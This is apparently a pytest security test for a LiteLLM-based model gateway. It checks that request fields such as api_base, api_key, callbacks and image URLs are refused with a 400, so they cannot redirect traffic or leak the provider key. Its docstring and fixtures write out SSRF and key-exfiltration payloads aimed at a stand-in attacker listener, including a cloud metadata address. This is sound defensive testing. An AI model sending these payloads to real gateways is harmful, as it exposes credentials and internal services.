"""Finding 1: a key holder must not choose where the gateway sends a request, or with what key.

The attack: add LiteLLM's own options to an ordinary chat request, e.g. `"api_base":
"http://attacker"`. A gateway that passes unknown fields through sends the request there,
with the provider key it holds in the headers (or to 169.254.169.254, Redis, MLflow: SSRF).
Here the "attacker" is a listener on 127.0.0.1, and every provider type the gateway has
(OpenAI-compatible, LiteLLM with and without a configured base URL, local, MLflow registry)
is tried with every option that changes the destination, the credentials or the behaviour.
The gateway must answer 400 naming the field, and the listener must receive nothing.

A second route to the same place: image and file URLs inside messages, which LiteLLM
downloads itself, from the gateway's network, for providers that need the bytes (Anthropic,
Gemini, Bedrock, Ollama). They are refused too, unless every deployment of the model is
marked as safe for them.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.e2e.attacks.gateway import Gateway, serve_gateway
from tests.support.attacker import Listener, attacker_listener
from tests.support.fake_openai import FakeUpstream, ok, running_fake_upstream

PROVIDER_KEY = "sk-ant-attack-test-provider-key-0123456789"

# Every alias of the models file below: one per provider type the gateway has.
ALIASES = ["openai", "litellm-with-base", "litellm-cloud", "local", "registry"]


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with attacker_listener() as running:
        yield running


@pytest.fixture(scope="module")
def upstream() -> Iterator[FakeUpstream]:
    with running_fake_upstream() as running:
        yield running


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory, upstream: FakeUpstream) -> Iterator[Gateway]:
    models = {
        "default_model": "local",
        "routing": {"retries": {"server_error": 0, "timeout": 0, "connection": 0}},
        "deployments": {
            "openai": {"provider": "openai", "model": "fake-a", "api_base": upstream.base_url},
            "litellm-with-base": {
                "provider": "litellm",
                "model": "openai/fake-b",
                "api_base": upstream.base_url,
                "api_key_env": "ANTHROPIC_API_KEY",
                "timeout_s": 5,
            },
            # As the shipped models.yaml configures Anthropic: no api_base, LiteLLM picks the
            # provider's own URL. The timeout keeps the (unreachable) real API from stalling us.
            "litellm-cloud": {
                "provider": "litellm",
                "model": "anthropic/claude-haiku-4-5",
                "api_key_env": "ANTHROPIC_API_KEY",
                "timeout_s": 3,
            },
            "local": {"provider": "local", "model": "smollm2-135m-instruct"},
            "registry": {"provider": "mlflow", "model": "models:/intent-router@champion"},
        },
        "models": {alias: [alias] for alias in ALIASES},
    }
    env = {"ANTHROPIC_API_KEY": PROVIDER_KEY}
    folder = tmp_path_factory.mktemp("gateway")
    with serve_gateway(folder, models, {"attacker": ["--rpm", "100000"]}, env=env) as running:
        yield running


def chat(model: str, **extra: Any) -> dict[str, Any]:
    return {
        "model": model,
        "messages": [{"role": "user", "content": "Hi"}],
        "max_tokens": 4,
        **extra,
    }


def destination_options(listener: Listener) -> dict[str, Any]:
    """LiteLLM options that change where a request goes, with what key, or what runs."""
    return {
        "api_base": listener.url,
        "base_url": listener.url,
        "api_key": "sk-attacker",
        "custom_llm_provider": "openai",
        "extra_headers": {"x-exfiltrate": "1"},
        "extra_body": {"api_base": listener.url},
        "metadata": {"api_base": listener.url},
        "mock_response": "pwned",
        "callbacks": [listener.url],
        "timeout": 0.001,
        "api_version": "2024-01-01",
    }


@pytest.mark.parametrize("alias", ALIASES)
def test_options_that_choose_the_destination_are_refused_for_every_provider(
    gateway: Gateway, listener: Listener, alias: str
) -> None:
    for name, value in destination_options(listener).items():
        for stream in (False, True):
            response = gateway.chat("attacker", chat(alias, stream=stream, **{name: value}))

            assert response.status_code == 400, (alias, name, stream, response.text)
            error = response.json()["error"]
            assert error["param"] == name
            assert f"{name}: not accepted by this gateway" in error["message"]

    assert listener.received == []
    assert PROVIDER_KEY.encode() not in listener.everything()


def test_a_field_hidden_in_a_message_is_refused(gateway: Gateway, listener: Listener) -> None:
    message = {"role": "user", "content": "Hi", "api_base": listener.url}

    response = gateway.chat("attacker", chat("litellm-cloud", messages=[message]))

    assert response.status_code == 400
    assert response.json()["error"]["param"] == "messages.0.api_base"
    assert listener.received == []


def test_an_image_url_is_not_fetched_from_the_gateways_network(
    gateway: Gateway, listener: Listener
) -> None:
    picture = {"type": "image_url", "image_url": {"url": f"{listener.url}/cat.png"}}
    message = {"role": "user", "content": [{"type": "text", "text": "What is this?"}, picture]}

    response = gateway.chat("attacker", chat("litellm-cloud", messages=[message]))

    assert response.status_code == 400
    assert "data: URL" in response.json()["error"]["message"]
    assert listener.received == []


def test_allowed_parameters_still_reach_the_provider_and_nothing_else_does(
    gateway: Gateway, upstream: FakeUpstream
) -> None:
    upstream.default = ok("Four.")
    picture = {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}
    message = {"role": "user", "content": [{"type": "text", "text": "2+2?"}, picture]}
    body = chat("openai", messages=[message], seed=7, stop=["\n"], temperature=0, user="u-1")

    response = gateway.chat("attacker", body)

    assert response.status_code == 200, response.text
    sent = upstream.requests[-1].body or {}
    assert {k: sent[k] for k in ("seed", "stop", "temperature", "user")} == {
        "seed": 7,
        "stop": ["\n"],
        "temperature": 0,
        "user": "u-1",
    }
    assert set(sent) <= {"model", "messages", "max_tokens", "seed", "stop", "temperature", "user"}
    assert sent["messages"][0]["content"][1] == picture
